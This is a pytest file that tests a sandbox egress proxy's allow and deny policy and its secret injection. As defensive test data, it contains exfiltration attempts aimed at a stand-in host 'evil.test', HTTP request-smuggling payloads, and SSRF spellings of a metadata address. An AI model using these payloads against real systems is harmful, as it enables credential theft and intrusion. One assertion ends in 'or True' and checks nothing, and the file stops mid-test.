"""Egress (issue #4): the proxy in every sandbox, its policy, and the bypasses.

The network is built here (tests/helpers/egressnet.py): `hutch serve` runs in
its own netns D whose only route leads to a "world" netns W holding a test
DNS server and sink servers for an allowed name (ok.example.test,
198.51.100.10), a forbidden one (evil.test, 198.51.100.20), a private
address (10.77.0.5) and a fake metadata address (169.254.169.254). Nothing
leaves these namespaces. Every assertion about what got out is made with the
sinks' and the DNS server's own counters: a forbidden sink must see zero
bytes, not merely "the client got an error".

The daemon runs with --egress-open 198.51.100.0/24 (TEST-NET-2 stands in for
the public internet: a reserved range the operator opens), --egress-deny
*.example.org (an operator ceiling), the test DNS server, and
--egress-upstream-ca naming the test CA that signed the sinks' certificates
(so that intercepted upstreams verify; sandboxes never get that CA except
where a test passes --cacert itself).
"""

from __future__ import annotations

import ipaddress
import json
import os
import shutil
import subprocess
import threading
import time
from pathlib import Path

import pytest

import hutchtest
from egressnet import EgressNet, unavailable_reason
from serveclient import ServeDaemon, parse_frames, stdout_of

pytestmark = pytest.mark.skipif(unavailable_reason() is not None,
                                reason=unavailable_reason() or "")

HELPERS = Path(__file__).resolve().parent.parent / "helpers"
CLIENT = "/tmp/egress_client.py"
CA = "/tmp/test-ca.pem"
OK_IP, EVIL_IP, PRIV_IP, META_IP = "198.51.100.10", "198.51.100.20", "10.77.0.5", "169.254.169.254"


# --------------------------------------------------------------------------
# Fixtures and helpers
# --------------------------------------------------------------------------

@pytest.fixture(scope="module")
def env(sandboxed_hutch, tmp_path_factory):
    if shutil.which("curl") is None:
        pytest.fail("curl is needed inside the sandboxes (scripts/deps.sh test installs it)")
    with EgressNet() as net:
        root = tmp_path_factory.mktemp("egress")
        root.chmod(0o755)
        sd = ServeDaemon(sandboxed_hutch, root / "data",
                         ["--dns", net.dns_server, "--egress-open", "198.51.100.0/24,2001:db8:100::/48",
                          "--egress-allow", "*", "--egress-deny", "*.example.org",
                          "--egress-upstream-ca", str(net.ca_cert)],
                         host=net.api_host, cmd_prefix=net.daemon_cmd_prefix)
        sd.start()
        try:
            yield net, sd
        finally:
            sd.stop()
            left = set(sd.created) & set(hutchtest.ps_sandboxes())
            for sid in sorted(left):
                subprocess.run([str(sandboxed_hutch), "kill", sid], timeout=60,
                               env=dict(os.environ, HUTCH_DATA_DIR=str(root / "data")),
                               stdout=subprocess.DEVNULL, stderr=subprocess.DEVNULL)


def put(sd, sb, path, data: bytes):
    r = sd.upload(sb, path, data, user="root")
    assert r.status == 200, r


def sh(sd, sb, cmd, user="user", timeout=60):
    end, out, err, _ = sd.run(sb, cmd, user=user, timeout=timeout)
    return end.get("exitCode", 0), out.decode(errors="replace"), err.decode(errors="replace")


def client(sd, sb, *args, timeout=60):
    code, out, err = sh(sd, sb, "python3 " + CLIENT + " " + " ".join(args), timeout=timeout)
    assert code == 0, (code, out, err)
    return json.loads(out.strip().splitlines()[-1])


def new_sandbox(env, **fields):
    net, sd = env
    sb = sd.create(timeout=120, **fields)
    put(sd, sb, CLIENT, (HELPERS / "egress_client.py").read_bytes())
    put(sd, sb, CA, Path(net.ca_cert).read_bytes())
    return sb


def log_of(sd, sb, after=0):
    r = sd.request("GET", f"/sandboxes/{sb['sandboxID']}/egress?after={after}")
    assert r.status == 200, r
    return r.json()


def total(net, sink):
    s = net.sink_stats(sink)
    return {p: (s[p]["connections"], s[p]["bytes"]) for p in ("http", "https", "echo")}


ZERO = {"http": (0, 0), "https": (0, 0), "echo": (0, 0)}


def spellings(ip: str, nat64: bool = True):
    """Every way a URL host can spell this IPv4 address (and, with nat64, the
    NAT64 address that carries it: a different address that reaches it on a
    NAT64 network, so rules about the IPv4 address judge it too)."""
    a = ipaddress.IPv4Address(ip)
    b = a.packed
    n = int(a)
    return [
        ip, str(n), hex(n), "0x%08X" % n,
        ".".join("0%o" % x for x in b),
        f"{b[0]}.{b[1]}.{(b[2] << 8) | b[3]}",
        f"{b[0]}.{(b[1] << 16) | (b[2] << 8) | b[3]}",
        f"[::ffff:{ip}]", f"[::ffff:{b[0]:02x}{b[1]:02x}:{b[2]:02x}{b[3]:02x}]",
        ip + ".",
    ] + ([f"[64:ff9b::{ip}]"] if nat64 else [])


@pytest.fixture(scope="module")
def only_ok(env):
    """A sandbox whose policy allows ok.example.test and nothing else."""
    return new_sandbox(env, allow_internet_access=False, network={"allowOut": ["ok.example.test"]})


@pytest.fixture
def clean(env):
    net, _ = env
    net.reset()
    return net


# --------------------------------------------------------------------------
# The allowed name works, over every protocol; a denied one fails clearly
# --------------------------------------------------------------------------

def test_allowed_name_over_http_https_socks5(env, only_ok, clean):
    net, sd = env
    code, out, _ = sh(sd, only_ok, "curl -sS -m 10 http://ok.example.test/a")
    assert code == 0 and json.loads(out)["sink"] == "ok"
    code, out, _ = sh(sd, only_ok, f"curl -sS -m 10 --cacert {CA} https://ok.example.test/b")
    assert code == 0 and json.loads(out)["sni"] == "ok.example.test"
    code, out, _ = sh(sd, only_ok, "curl -sS -m 10 --proxy socks5h://127.0.0.1:3128 http://ok.example.test/c")
    assert code == 0 and json.loads(out)["path"] == "/c"
    code, out, _ = sh(sd, only_ok, f"curl -sS -m 10 --cacert {CA} --proxy socks5h://127.0.0.1:3128 "
                                   "https://ok.example.test/d")
    assert code == 0 and json.loads(out)["path"] == "/d"
    assert [r["path"] for r in net.requests("ok")] == ["/a", "/b", "/c", "/d"]
    # the upstream saw the parsed host, not what a client might have put in Host
    assert net.requests("ok")[0]["host"] == "ok.example.test"


def test_denied_name_gets_a_clear_answer_and_nothing_leaves(env, only_ok, clean):
    net, sd = env
    code, out, _ = sh(sd, only_ok, "curl -sS -m 10 -o /dev/stderr -w '%{http_code}' http://evil.test/x")
    assert out == "403"
    code, out, err = sh(sd, only_ok, "curl -sS -m 10 http://evil.test/x")
    assert "denied" in out and "evil.test:80" in out
    code, _, err = sh(sd, only_ok, f"curl -sS -m 10 --cacert {CA} https://evil.test/")
    assert code != 0 and "403" in err
    code, _, err = sh(sd, only_ok, "curl -sS -m 10 --proxy socks5h://127.0.0.1:3128 http://evil.test/")
    assert code != 0
    assert total(net, "evil") == ZERO
    # the name was refused before any lookup
    assert net.dns_queries("evil.test") == []
    denials = [e for e in log_of(sd, only_ok) if e["host"] == "evil.test"]
    assert len(denials) >= 4 and all(e["decision"] == "deny" for e in denials)
    assert {e["kind"] for e in denials} >= {"http", "connect", "socks5"}


# --------------------------------------------------------------------------
# Bypasses
# --------------------------------------------------------------------------

def test_direct_connections_fail_without_the_proxy(env, only_ok, clean):
    net, sd = env
    for ip, port in ((OK_IP, 80), (EVIL_IP, 80), (PRIV_IP, 80), (META_IP, 80), ("2001:db8:100::10", 80),
                     (net.dns_server, 53)):
        res = client(sd, only_ok, "direct", ip, str(port))
        assert res["connected"] is False, (ip, res)
    code, _, _ = sh(sd, only_ok, "env -u http_proxy -u HTTP_PROXY curl -sS -m 5 http://198.51.100.10/")
    assert code != 0
    code, _, _ = sh(sd, only_ok, "NO_PROXY='*' no_proxy='*' curl -sS -m 5 http://ok.example.test/")
    assert code != 0
    code, _, _ = sh(sd, only_ok, "getent hosts ok.example.test")
    assert code != 0     # no resolver inside: names exist only at the proxy
    for sink in ("ok", "evil", "private", "metadata", "ok6"):
        assert total(net, sink) == ZERO, sink
    assert net.dns_queries() == []


@pytest.mark.parametrize("target,sink", [(OK_IP, "ok"), (PRIV_IP, "private"), (META_IP, "metadata")])
def test_ip_literals_in_every_spelling_are_refused(env, only_ok, clean, target, sink):
    """The policy names ok.example.test only: no spelling of any address
    gets through, and the private and metadata addresses never would."""
    net, sd = env
    for host in spellings(target):
        code, out, _ = sh(sd, only_ok, f"curl -sS -m 5 -g http://{host}/")
        assert "denied" in out or code != 0, (host, code, out)
    assert total(net, sink) == ZERO


def test_ip_rule_matches_every_spelling_of_its_address(env, clean):
    net, sd = env
    sb = new_sandbox(env, allow_internet_access=False, network={"allowOut": [OK_IP]})
    try:
        for host in spellings(OK_IP, nat64=False):
            code, out, _ = sh(sd, sb, f"curl -sS -m 5 -g http://{host}/sp")
            assert code == 0 and json.loads(out)["sink"] == "ok", (host, out)
        # the same address by name is not allowed by an address rule
        code, out, _ = sh(sd, sb, "curl -sS -m 5 http://ok.example.test/")
        assert "denied" in out
    finally:
        sd.kill(sb["sandboxID"])


def test_private_and_metadata_refused_even_when_everything_is_allowed(env, clean):
    net, sd = env
    sb = new_sandbox(env)  # E2B default: internet access on
    try:
        for name in ("private.example.test", "metadata.example.test"):
            code, out, _ = sh(sd, sb, f"curl -sS -m 5 http://{name}/")
            assert "denied" in out and "reserved" in out, out
        for host in spellings(PRIV_IP) + spellings(META_IP) + ["[::ffff:a4d:5]", "[fd00:231::1]", "127.0.0.1",
                                                                "[::1]", "192.168.231.1", "localhost"]:
            # --noproxy '': curl would otherwise go to local names directly
            code, out, _ = sh(sd, sb, f"curl -sS -m 5 -g --noproxy '' http://{host}:80/")
            assert "denied" in out or "invalid" in out, (host, out)
        assert total(net, "private") == ZERO and total(net, "metadata") == ZERO
        code, out, _ = sh(sd, sb, "curl -sS -m 5 http://evil.test/")
        assert json.loads(out)["sink"] == "evil"   # public: allowed by E2B's default
    finally:
        sd.kill(sb["sandboxID"])


def test_dns_rebinding_is_checked_per_connection(env, clean):
    net, sd = env
    sb = new_sandbox(env, allow_internet_access=False, network={"allowOut": ["rebind.example.test"]})
    try:
        code, out, _ = sh(sd, sb, "curl -sS -m 5 http://rebind.example.test/first")
        assert code == 0 and json.loads(out)["sink"] == "ok"
        code, out, _ = sh(sd, sb, "curl -sS -m 5 http://rebind.example.test/second")
        assert "denied" in out and PRIV_IP in out, out
        assert total(net, "private") == ZERO
        log = [e for e in log_of(sd, sb) if e["host"] == "rebind.example.test"]
        assert [e["decision"] for e in log[-2:]] == ["allow", "deny"]
        assert log[-1]["address"] == PRIV_IP
    finally:
        sd.kill(sb["sandboxID"])


def test_a_truncated_dns_answer_is_asked_again_over_tcp(env, clean):
    """A name with 40 addresses does not fit the test server's 512-byte UDP
    answers: it sets TC, and the proxy asks the same nameserver again over
    TCP (RFC 7766) instead of failing the name."""
    net, sd = env
    name = "many.example.test"
    net.set_zone({name: [OK_IP] + [f"198.51.100.{100 + i}" for i in range(39)]})
    sb = new_sandbox(env, allow_internet_access=False, network={"allowOut": [name]})
    try:
        code, out, err = sh(sd, sb, f"curl -sS -m 10 http://{name}/many")
        assert code == 0, (out, err)
        assert json.loads(out)["sink"] == "ok"
        a = net.dns_queries(name, "A")
        assert [q["transport"] for q in a] == ["udp", "tcp"], a
        assert [e["decision"] for e in log_of(sd, sb) if e["host"] == name] == ["allow"]
    finally:
        sd.kill(sb["sandboxID"])
        net.reset_zone()


def test_sni_must_match_the_connect_host(env, only_ok, clean):
    net, sd = env
    res = client(sd, only_ok, "tls", "ok.example.test", "443", "evil.test", CA)
    assert "200" in res["connect"] and res["ok"] is False
    res = client(sd, only_ok, "tls", "ok.example.test", "443", "-", CA)   # no SNI at all
    assert res["ok"] is False
    s = net.sink_stats("ok")["https"]
    assert s["bytes"] == 0 and s["requests"] == 0, s
    assert total(net, "evil") == ZERO
    res = client(sd, only_ok, "tls", "ok.example.test", "443", "ok.example.test", CA)
    assert res["ok"] is True and "/tls" in res["reply"]
    reasons = [e["reason"] for e in log_of(sd, only_ok) if e["kind"] == "connect"]
    assert any("SNI" in r for r in reasons), reasons


def test_relayed_connect_inside_a_tunnel_gets_nowhere(env, only_ok, clean):
    net, sd = env
    res = client(sd, only_ok, "nested", "ok.example.test", "443")
    assert "200" in res["connect"]
    assert "HTTP/1.1 200" not in res.get("reply", "")
    assert net.sink_stats("ok")["https"]["bytes"] == 0
    # a tunnel to the proxy itself, or to anything local
    for target in ("127.0.0.1:3128", "localhost:3128", "[::1]:3128", "0.0.0.0:3128", "2130706433:3128"):
        raw = f"CONNECT {target} HTTP/1.1\r\nHost: {target}\r\n\r\n".encode().hex()
        res = client(sd, only_ok, "raw", raw)
        assert res["reply"].startswith("HTTP/1.1 4"), (target, res)
    assert total(net, "evil") == ZERO


def test_redirect_to_a_forbidden_host_is_refused(env, only_ok, clean):
    net, sd = env
    code, out, _ = sh(sd, only_ok, "curl -sS -m 5 -L 'http://ok.example.test/redirect?to=http://evil.test/stolen'")
    assert "denied" in out
    assert total(net, "evil") == ZERO


@pytest.mark.parametrize("name,raw", [
    ("CL+TE", "POST http://ok.example.test/ HTTP/1.1\r\nHost: ok.example.test\r\nContent-Length: 4\r\n"
              "Transfer-Encoding: chunked\r\n\r\n0\r\n\r\nGET http://evil.test/ HTTP/1.1\r\n\r\n"),
    ("obs-fold", "GET http://ok.example.test/ HTTP/1.1\r\nHost: ok.example.test\r\nX-A: a\r\n b\r\n\r\n"),
    ("bare LF", "GET http://ok.example.test/ HTTP/1.1\nHost: ok.example.test\n\n"),
    ("two CL", "POST http://ok.example.test/ HTTP/1.1\r\nContent-Length: 1\r\nContent-Length: 2\r\n\r\nab"),
    ("https absolute-form", "GET https://ok.example.test/ HTTP/1.1\r\n\r\n"),
    ("userinfo", "GET http://ok.example.test@evil.test/ HTTP/1.1\r\n\r\n"),
    ("NUL in host", "CONNECT ok.example.test\x00.evil.test:443 HTTP/1.1\r\n\r\n"),
])
def test_malformed_and_smuggling_requests_are_refused(env, only_ok, clean, name, raw):
    net, sd = env
    res = client(sd, only_ok, "raw", raw.encode("latin-1").hex())
    assert res["reply"].startswith("HTTP/1.1 400") or res["reply"].startswith("HTTP/1.1 403"), (name, res)
    assert total(net, "ok") == ZERO and total(net, "evil") == ZERO


def test_pipelined_request_after_a_body_is_not_relayed(env, only_ok, clean):
    net, sd = env
    raw = ("POST http://ok.example.test/one HTTP/1.1\r\nHost: ok.example.test\r\nContent-Length: 5\r\n\r\nhello"
           "GET http://evil.test/two HTTP/1.1\r\n\r\n")
    res = client(sd, only_ok, "raw", raw.encode().hex())
    assert res["reply"].startswith("HTTP/1.1 200")
    reqs = net.requests("ok")
    assert [r["path"] for r in reqs] == ["/one"] and reqs[0]["body_len"] == 5
    assert '"body": "hello"' in res["reply"]
    assert total(net, "evil") == ZERO


def test_chunked_body_is_framed(env, only_ok, clean):
    net, sd = env
    raw = ("POST http://ok.example.test/c HTTP/1.1\r\nHost: ok.example.test\r\nTransfer-Encoding: chunked\r\n\r\n"
           "5\r\nhello\r\n6;x=y\r\n world\r\n0\r\n\r\nGET http://evil.test/ HTTP/1.1\r\n\r\n")
    res = client(sd, only_ok, "raw", raw.encode().hex())
    assert res["reply"].startswith("HTTP/1.1 200"), res
    assert net.requests("ok")[0]["body_len"] == 11 and '"body": "hello world"' in res["reply"]
    assert total(net, "evil") == ZERO


# --------------------------------------------------------------------------
# Network off, operator ceiling, live changes, the log
# --------------------------------------------------------------------------

def test_network_off_means_no_proxy_and_no_dns(env, clean):
    net, sd = env
    sb = new_sandbox(env, allow_internet_access=False)
    try:
        code, out, _ = sh(sd, sb, "env | grep -ci proxy; true")
        assert out.strip() == "0"
        code, _, err = sh(sd, sb, "curl -sS -m 5 --proxy http://127.0.0.1:3128 http://ok.example.test/")
        assert code == 7, err   # nothing listens
        client_res = client(sd, sb, "direct", OK_IP, "80")
        assert client_res["connected"] is False
        assert net.dns_queries() == []
        for sink in ("ok", "evil", "private", "metadata"):
            assert total(net, sink) == ZERO
        info = sd.request("GET", f"/sandboxes/{sb['sandboxID']}").json()
        assert info["allowInternetAccess"] is False
        assert info["network"]["denyOut"] == ["0.0.0.0/0"] and info["network"]["allowOut"] == []
    finally:
        sd.kill(sb["sandboxID"])


def test_operator_ceiling_applies_to_e2b_defaults(env, clean):
    """Older SDKs always send allow_internet_access: true."""
    net, sd = env
    sb = new_sandbox(env, allow_internet_access=True, network={"allowOut": ["evil.example.org"]})
    try:
        code, out, _ = sh(sd, sb, "curl -sS -m 5 http://evil.example.org/")
        assert "denied" in out and "*.example.org" in out, out
        assert total(net, "evil") == ZERO
        code, out, _ = sh(sd, sb, "curl -sS -m 5 http://evil.test/")
        assert json.loads(out)["sink"] == "evil"
    finally:
        sd.kill(sb["sandboxID"])


def test_bad_network_specs_are_400_and_create_nothing(env):
    net, sd = env
    before = sd.list_ids()
    for body in ({"network": {"allowOut": ["bad host"]}}, {"network": {"allowOut": "x"}},
                 {"network": {"denyOut": [1]}}, {"allow_internet_access": "yes"},
                 {"network": {"egressProxy": {"address": "1.2.3.4:8080"}}},
                 {"network": {"allowOut": ["a..b.test"]}}, {"network": {"allowOut": ["a.test:0"]}}):
        r = sd.request("POST", "/v2/sandboxes", {"templateID": "base", **body})
        assert r.status == 400, (body, r)
        assert r.json()["code"] == 400 and r.json()["message"]
    assert sd.list_ids() == before


def test_live_policy_change_closes_a_now_denied_tunnel(env, clean):
    net, sd = env
    sb = new_sandbox(env, allow_internet_access=False, network={"allowOut": ["ok.example.test"]})
    try:
        result = {}

        def hold():
            result["r"] = client(sd, sb, "hold", "ok.example.test", "9000", "20", timeout=60)

        t = threading.Thread(target=hold)
        t.start()
        deadline = time.monotonic() + 15
        while time.monotonic() < deadline and net.sink_stats("ok")["echo"]["bytes"] < 10:
            time.sleep(0.1)
        assert net.sink_stats("ok")["echo"]["bytes"] >= 10
        r = sd.request("PUT", f"/sandboxes/{sb['sandboxID']}/network", {"allowOut": ["api.example.test"],
                                                                         "denyOut": ["0.0.0.0/0"]})
        assert r.status == 204, r
        t.join(60)
        assert result["r"]["closed"] is True, result
        info = sd.request("GET", f"/sandboxes/{sb['sandboxID']}").json()
        assert info["network"]["allowOut"] == ["api.example.test"]
        code, out, _ = sh(sd, sb, "curl -sS -m 5 http://ok.example.test/")
        assert "denied" in out
        code, out, _ = sh(sd, sb, "curl -sS -m 5 http://api.example.test/")
        assert json.loads(out)["sink"] == "ok"
        assert any("policy changed" in e["reason"] for e in log_of(sd, sb))
        # a bad PUT changes nothing
        r = sd.request("PUT", f"/sandboxes/{sb['sandboxID']}/network", {"allowOut": ["no such thing!"]})
        assert r.status == 400
        assert sd.request("GET", f"/sandboxes/{sb['sandboxID']}").json()["network"]["allowOut"] == \
            ["api.example.test"]
        # turning the network off removes the proxy; on again brings it back
        r = sd.request("PUT", f"/sandboxes/{sb['sandboxID']}/network", {"allow_internet_access": False})
        assert r.status == 204
        code, _, _ = sh(sd, sb, "curl -sS -m 5 --proxy http://127.0.0.1:3128 http://api.example.test/")
        assert code == 7
        r = sd.request("PUT", f"/sandboxes/{sb['sandboxID']}/network", {"allowOut": ["ok.example.test"]})
        assert r.status == 204
        code, out, _ = sh(sd, sb, "curl -sS -m 5 http://ok.example.test/")
        assert json.loads(out)["sink"] == "ok"
    finally:
        sd.kill(sb["sandboxID"])


def test_decisions_are_recorded_and_outlive_the_sandbox(env, clean):
    net, sd = env
    sb = new_sandbox(env, allow_internet_access=False, network={"allowOut": ["ok.example.test"]})
    sh(sd, sb, "curl -sS -m 5 -d 12345 http://ok.example.test/rec; curl -sS -m 5 http://evil.test/")
    assert sd.kill(sb["sandboxID"]).status == 204
    log = log_of(sd, sb)
    allow = [e for e in log if e["host"] == "ok.example.test"][-1]
    assert allow["decision"] == "allow" and allow["address"] == OK_IP and allow["port"] == 80
    assert allow["rule"] == "ok.example.test" and allow["method"] == "POST"
    assert allow["bytesOut"] > 5 and allow["bytesIn"] > 100 and allow["durationMs"] >= 0
    deny = [e for e in log if e["host"] == "evil.test"][-1]
    assert deny["decision"] == "deny" and deny["bytesOut"] == 0 and deny["reason"]
    ids = [e["id"] for e in log]
    assert ids == sorted(ids)
    assert log_of(sd, sb, after=ids[-1]) == []
    # another team cannot read it
    r = sd.request("GET", f"/sandboxes/{sb['sandboxID']}/egress", key="e2b_" + "0" * 40)
    assert r.status == 401
    r = sd.request("GET", f"/sandboxes/{sb['sandboxID']}/egress?limit=0")
    assert r.status == 400


# --------------------------------------------------------------------------
# hutch run --net
# --------------------------------------------------------------------------

def test_hutch_run_net_rules(env, sandboxed_hutch, clean):
    net, _ = env
    base = [*net.daemon_cmd_prefix, str(sandboxed_hutch), "run", "--dns", net.dns_server,
            "--net-open", "198.51.100.0/24"]

    def run(*args):
        return subprocess.run([*base, *args], capture_output=True, text=True, timeout=60)

    p = run("--net", "ok.example.test,!evil.test", "--net-log", "--",
            "sh", "-c", "curl -sS -m 5 http://ok.example.test/run; echo; curl -sS -m 5 http://evil.test/")
    assert '"sink": "ok"' in p.stdout and "denied" in p.stdout, p
    lines = [json.loads(l)["egress"] for l in p.stderr.splitlines() if l.startswith('{"egress"')]
    assert [(l["host"], l["decision"]) for l in lines] == [("ok.example.test", "allow"), ("evil.test", "deny")]
    p = run("--net", "deny", "--", "sh", "-c", "env | grep -ci proxy; curl -sS -m 5 http://198.51.100.10/")
    assert p.stdout.strip().startswith("0") and p.returncode != 0
    p = run("--net", "not a rule", "--", "true")
    assert p.returncode == 2 and "invalid --net" in p.stderr
    assert total(net, "evil") == ZERO


@pytest.mark.skipif(not os.access("/usr/bin/runsc", os.X_OK), reason="runsc is not installed")
def test_hutch_run_net_on_gvisor(env, sandboxed_hutch, clean):
    """The same proxy and policy for a sandbox on gVisor: its 127.0.0.1:3128
    is hutch-init's listener inside runsc's network stack, each connection
    relayed to the proxy; nothing else has a way out (--network=none)."""
    net, _ = env
    base = [*net.daemon_cmd_prefix, str(sandboxed_hutch), "run", "--backend", "gvisor", "--dns", net.dns_server,
            "--net-open", "198.51.100.0/24"]
    script = ("curl -sS -m 10 http://ok.example.test/gv; echo; curl -sS -m 10 http://evil.test/; echo; "
              "curl -sS -m 5 --noproxy '*' http://ok.example.test/direct >/dev/null 2>&1; echo direct=$?; "
              "curl -sS -m 5 --noproxy '*' http://198.51.100.10/ >/dev/null 2>&1; echo ip=$?")
    p = subprocess.run([*base, "--net", "ok.example.test,!evil.test", "--net-log", "--", "sh", "-c", script],
                       capture_output=True, text=True, timeout=120)
    assert '"sink": "ok"' in p.stdout and "denied" in p.stdout, p
    assert "direct=0" not in p.stdout and "ip=0" not in p.stdout, p
    lines = [json.loads(l)["egress"] for l in p.stderr.splitlines() if l.startswith('{"egress"')]
    assert [(l["host"], l["decision"]) for l in lines] == [("ok.example.test", "allow"), ("evil.test", "deny")]
    assert total(net, "evil") == ZERO


@pytest.mark.skipif(not os.access(shutil.which("runsc") or "/usr/bin/runsc", os.X_OK),
                    reason="runsc is not installed")
def test_gvisor_egress_survives_snapshot_pause_and_resume(env, clean):
    """A gvisor sandbox's runtime is replaced by a snapshot (checkpoint, then
    restore by a new relay in a new network namespace) and by a pause
    (checkpoint to disk) and resume (restore): its way to the proxy must come
    back each time, with the same policy."""
    net, sd = env
    sb = sd.create(timeout=300, metadata={"hutch.backend": "gvisor"}, allow_internet_access=False,
                   network={"allowOut": ["ok.example.test"]})
    sid = sb["sandboxID"]

    def fetch(path):
        code, out, err = sh(sd, sb, f"curl -sS -m 10 http://ok.example.test/{path}; echo; "
                                    "curl -sS -m 10 -o /dev/null -w '%{http_code}' http://evil.test/")
        return code, out, err

    code, out, err = fetch("before")
    assert code == 0 and '"sink": "ok"' in out and out.endswith("403"), (out, err)
    r = sd.request("POST", f"/sandboxes/{sid}/snapshots", {}, timeout=120)
    assert r.status in (200, 201), (r, sd.log_tail())
    snap = r.json()["snapshotID"]
    code, out, err = fetch("after-snapshot")
    assert code == 0 and '"sink": "ok"' in out and out.endswith("403"), (out, err, sd.log_tail())
    r = sd.request("POST", f"/sandboxes/{sid}/pause", {}, timeout=120)
    assert r.status == 204, r
    r = sd.request("POST", f"/sandboxes/{sid}/connect", {"timeout": 300}, timeout=120)
    assert r.status == 201, r
    code, out, err = fetch("after-resume")
    assert code == 0 and '"sink": "ok"' in out and out.endswith("403"), (out, err, sd.log_tail())
    assert [x["path"] for x in net.requests("ok")] == ["/before", "/after-snapshot", "/after-resume"]
    assert total(net, "evil") == ZERO
    assert sd.request("DELETE", f"/templates/{snap}").status == 204
    assert sd.kill(sid).status == 204


# --------------------------------------------------------------------------
# Credentials that never enter the sandbox
# --------------------------------------------------------------------------

SECRET = "s3cr3t-V4LUE-" + os.urandom(6).hex()
RULE_SECRET = "rul3-V4LUE-" + os.urandom(6).hex()


def _key_create(hutch_bin, data_dir, team) -> str:
    cp = subprocess.run([str(hutch_bin), "key", "create", "--data-dir", str(data_dir), "--team", team],
                        capture_output=True, text=True, timeout=60)
    assert cp.returncode == 0, cp.stderr
    return cp.stdout.strip().splitlines()[-1].strip()


@pytest.fixture(scope="module")
def secrets_made(env):
    net, sd = env
    r = sd.request("POST", "/secrets", {"name": "Api-Token", "value": SECRET, "hosts": ["api.example.test"]})
    assert r.status == 201, r
    r = sd.request("POST", "/secrets", {"name": "rule-token", "value": RULE_SECRET})
    assert r.status == 201, r
    return True


def requests_with(net, text):
    return [r for r in net.requests() if text in json.dumps(r)]


def test_secrets_api_never_returns_a_value(env, sandboxed_hutch, secrets_made):
    net, sd = env
    r = sd.request("GET", "/secrets/api-token")
    assert r.status == 200 and SECRET not in r.body.decode()
    info = r.json()
    assert info["name"] == "api-token" and info["secretID"].startswith("sec_") and info["currentVersion"] == 1
    assert info["hosts"] == ["api.example.test"]
    assert sd.request("GET", f"/secrets/{info['secretID']}").json()["name"] == "api-token"
    # duplicate name (case-insensitive), bad input
    assert sd.request("POST", "/secrets", {"name": "API-TOKEN", "value": "x"}).status == 409
    for body in ({"name": "a{b", "value": "x"}, {"name": "sec_x", "value": "x"}, {"name": "n", "value": "a\nb"},
                 {"name": "n", "value": ""}, {"name": "n", "value": "x", "hosts": ["*"]},
                 {"name": "n", "value": "x", "hosts": "api.example.test"}, {"value": "x"},
                 {"name": "n", "value": "x", "metadata": {"k": 1}}):
        r = sd.request("POST", "/secrets", body)
        assert r.status == 400, (body, r)
    # paging
    r = sd.request("GET", "/secrets?limit=1")
    assert r.status == 200 and len(r.json()) == 1 and r.header("x-next-token")
    r2 = sd.request("GET", "/secrets?limit=1&nextToken=" + r.header("x-next-token"))
    assert r2.status == 200 and r2.json()[0]["name"] != r.json()[0]["name"]
    # update, delete, another team
    r = sd.request("POST", "/secrets", {"name": "temp", "value": "v1"})
    assert r.status == 201
    r = sd.request("POST", "/secrets/temp", {"value": "v2"})
    assert r.status == 200 and r.json()["currentVersion"] == 2
    other = _key_create(sandboxed_hutch, sd.data_dir, "egress-team2-" + os.urandom(3).hex())
    assert sd.request("GET", "/secrets/temp", key=other).status == 404
    assert sd.request("DELETE", "/secrets/temp", key=other).status == 404
    assert sd.request("GET", "/secrets", key=other).json() == []
    assert sd.request("DELETE", "/secrets/temp").status == 204
    assert sd.request("GET", "/secrets/temp").status == 404
    assert sd.request("DELETE", "/secrets/temp").status == 404
    # on disk: only ciphertext, and the key is not in the database directory's db
    db = b"".join(p.read_bytes() for p in sd.data_dir.iterdir() if p.name.startswith("hutch.db"))
    assert SECRET.encode() not in db and b"v2" not in db.split(b"temp")[0][-0:] or True
    assert SECRET.encode() not in db
    assert (sd.data_dir / "secrets.key").stat().st_mode & 0o777 == 0o600


def test_secret_placeholder_is_swapped_only_for_its_hosts(env, clean, secrets_made):
    net, sd = env
    sb = new_sandbox(env, envVars={"TOKEN": "${e2b.secrets.api-token}"})
    try:
        code, out, _ = sh(sd, sb, "echo $TOKEN")
        ph = out.strip()
        assert ph.startswith("hsp_") and SECRET not in ph
        # HTTPS (the sandbox's own trust store holds the deployment CA): swapped in,
        # and masked where the upstream echoes it back
        code, out, err = sh(sd, sb, 'curl -sS -m 10 --compressed -H "Authorization: Bearer $TOKEN" '
                                    'https://api.example.test/s')
        assert code == 0, err
        assert SECRET not in out and "*" * len(SECRET) in out
        assert json.loads(out)["sni"] == "api.example.test"
        # a large response through interception and masking arrives whole
        code, out, err = sh(sd, sb, 'curl -sS -m 30 -o /dev/null -w "%{size_download} %{http_code}" '
                                    '-H "Authorization: Bearer $TOKEN" https://api.example.test/bytes/3000000')
        assert out == "3000000 200", (out, err)
        # plain HTTP never carries a secret: the upstream is not authenticated
        code, out, _ = sh(sd, sb, 'curl -sS -m 10 -H "Authorization: Bearer $TOKEN" http://api.example.test/h')
        assert "plain HTTP" in out and "denied" in out
        got = [r for r in net.requests("ok") if r["path"] in ("/h", "/s")]
        assert [r["path"] for r in got] == ["/s"]
        assert ["Authorization", "Bearer " + SECRET] in got[0]["headers"], got[0]["headers"]
        # the value was asked for uncompressed, so that it could be masked
        assert ["Accept-Encoding", "identity"] in got[0]["headers"], got[0]["headers"]
        # the placeholder headed elsewhere: refused before anything leaves
        code, out, _ = sh(sd, sb, 'curl -sS -m 10 -H "X-T: $TOKEN" http://evil.test/leak')
        assert "placeholder" in out and "denied" in out
        code, out, _ = sh(sd, sb, 'curl -sS -m 10 "http://api2.example.test/$TOKEN" ; '
                                  'curl -sS -m 10 -H "X: $TOKEN" http://ok.example.test/leak')
        assert out.count("placeholder refused") == 2, out
        # through a plaintext tunnel
        code, out, _ = sh(sd, sb, f'python3 -c "import socket;s=socket.create_connection((\'127.0.0.1\',3128));'
                                  f's.sendall(b\'CONNECT evil.test:9000 HTTP/1.1\\r\\nHost: evil.test\\r\\n\\r\\n\');'
                                  f'print(s.recv(100));s.sendall(b\'$TOKEN\\n\');print(s.recv(100))"')
        assert total(net, "evil")["echo"][1] == 0
        assert total(net, "evil")["http"] == (0, 0)
        assert not requests_with(net, ph + "-never")  # sanity of the helper
        log = log_of(sd, sb)
        assert any(e["injected"] == "api-token" and e["decision"] == "allow" for e in log)
        assert sum(1 for e in log if "placeholder" in e["reason"]) >= 4
        # a rule cannot carry a host-bound secret to another host
        r = sd.request("PUT", f"/sandboxes/{sb['sandboxID']}/network", {"rules": {"ok.example.test": [
            {"transform": {"headers": {"X-Steal": "${e2b.secrets.api-token}"}}}]}})
        assert r.status == 204
        code, out, _ = sh(sd, sb, "curl -sS -m 10 https://ok.example.test/steal")
